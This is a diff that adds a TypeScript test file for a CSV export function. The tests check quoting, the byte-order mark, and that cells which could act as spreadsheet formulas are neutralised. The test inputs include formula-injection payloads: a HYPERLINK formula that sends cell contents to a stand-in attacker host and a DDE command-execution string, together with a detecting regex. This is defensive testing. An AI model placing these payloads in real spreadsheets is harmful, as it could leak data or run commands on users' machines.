@@ -1,0 +1,77 @@
+import fc from 'fast-check';
+import Papa from 'papaparse';
+import { describe, expect, test } from 'vitest';
+import { csvOf } from './csv';
+
+const cellOf = (text: string) => (Papa.parse(csvOf(['A'], [[text]])).data as string[][])[1]?.[0];
+
+test('a table is UTF-8 with its mark, quoted where needed, a line each', () => {
+  expect(
+    csvOf(
+      ['Wallet', 'Amount', 'Description'],
+      [
+        ['Receiving Wallet', '-500.00', 'Package "Alpha", for self'],
+        ['Live Wallet', '25.00', undefined],
+        ['मुंबई ₹', '0.00', 'two\nlines'],
+      ],
+    ),
+  ).toBe(
+    '\uFEFFWallet,Amount,Description\r\n' +
+      'Receiving Wallet,-500.00,"Package ""Alpha"", for self"\r\n' +
+      'Live Wallet,25.00,\r\n' +
+      'मुंबई ₹,0.00,"two\nlines"',
+  );
+});
+
+// Of any code points. The library's own unit for them takes seconds to make.
+const anyText = fc.string({ unit: fc.nat({ max: 0x10ffff }).map((point) => String.fromCodePoint(point)) });
+
+describe('a cell', () => {
+  test.each([
+    '=1+1',
+    '+1',
+    '+49 1234',
+    '-1+1',
+    '-A1',
+    '-',
+    '--1',
+    '-1e3',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠x',
+    '=HYPERLINK("https://evil.example?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+  ])('%j is no formula (T25)', (text) => {
+    expect(cellOf(text)).toBe(`'${text}`);
+  });
+
+  test.each(['-500.00', '-0.01', '-7', '500', '0.00', 'a=b', '2026-11-20T21:17:05.000Z', "'x", ''])(
+    '%j stays as it is',
+    (text) => {
+      expect(cellOf(text)).toBe(text);
+    },
+  );
+
+  test('comes back as it went in, whatever it holds, and is never a formula', () => {
+    fc.assert(
+      fc.property(anyText, fc.string(), (one, other) => {
+        // What is no line of its own; the reader alone would drop the mark.
+        const rows = [['x', one, other, 'x']];
+        const back = (
+          Papa.parse(csvOf(['a', 'b', 'c', 'd'], rows), { newline: '\r\n' }).data as string[][]
+        )[1];
+        for (const [place, text] of [one, other].entries()) {
+          const cell = back?.[place + 1] ?? '';
+          expect([text, `'${text}`]).toContain(cell);
+          expect(cell).not.toMatch(/^\s*[=@＝＠＋－]|^\s*[+-](?!\d+(\.\d+)?$)/);
+        }
+      }),
+    );
+  });
+});
